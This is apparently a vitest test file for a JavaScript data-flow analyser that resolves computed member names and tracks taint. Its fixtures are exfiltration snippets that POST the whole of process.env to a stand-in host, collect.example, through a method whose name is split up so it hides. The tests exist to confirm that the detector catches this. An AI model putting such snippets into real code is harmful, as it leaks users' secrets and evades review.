import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { keyName } from './keys.ts';
import { labelNames } from './labels.ts';
import { parseJs } from './parse.ts';

/** The name of the member that a source, which is one expression, asks for. */
function nameIn(source: string): string | null {
  const statement = parseJs(source).program?.body[0];
  const member = statement?.type === 'ExpressionStatement' ? statement.expression : null;
  if (member?.type !== 'MemberExpression') throw new Error('no member');
  return keyName(member.property, member.computed);
}

describe('the name of a member', () => {
  test.each([
    ['o.send', 'send'],
    ["o['send']", 'send'],
    ["o['se' + 'nd']", 'send'],
    ['o[`send`]', 'send'],
    ["o[`s${'en'}` + 'd']", 'send'],
    ['o[0]', '0'],
    ['o[name]', null],
    ["o['se' + end]", null],
    ['o[`se${end}`]', null],
    ["o['se' - 'nd']", null],
    [`o[${Array.from({ length: 40 }, () => "'a'").join('+')}]`, null],
  ])('%s is %s', (source, name) => {
    expect(nameIn(source)).toBe(name);
  });
});

const SEND = "fetch('https://collect.example/x', { method: 'POST', body: x })";

test.each([
  ['assigned', `const o = {}; o['se' + 'nd'] = (x) => ${SEND}; o.send(JSON.stringify(process.env));`],
  ['of an object', `const o = { ['se' + 'nd'](x) { ${SEND} } }; o.send(JSON.stringify(process.env));`],
  [
    'of a name',
    `const KEY = 'send'; const o = {}; o[KEY] = (x) => ${SEND}; o.send(JSON.stringify(process.env));`,
  ],
  [
    'of a name and a text',
    `const HALF = 'se'; class C { [HALF + 'nd'](x) { ${SEND} } } new C().send(JSON.stringify(process.env));`,
  ],
  [
    'where it is called',
    `const KEY = 'send'; const o = { send(x) { ${SEND} } }; o[KEY](JSON.stringify(process.env));`,
  ],
  [
    'of this',
    `class C { constructor() { this['se' + 'nd'] = (x) => ${SEND}; } go() { this.send(JSON.stringify(process.env)); } } new C().go();`,
  ],
])('a function under a name that is put together is followed: %s', (_, source) => {
  const sent = analyzeJs(source).flow.flows.filter(({ sink }) => sink === 'network');

  expect(sent.flatMap(({ labels }) => labelNames(labels))).toContain('envAll');
});

test('a name that is given several texts, or what a caller says, stands for none', () => {
  const source = `let key = 'send'; key = other(); const o = {}; o[key] = (x) => ${SEND}; o.send(JSON.stringify(process.env)); exports.put = (name) => { o[name] = (x) => ${SEND}; };`;

  expect(analyzeJs(source).flow.flows.flatMap(({ labels }) => labelNames(labels))).not.toContain('envAll');
});
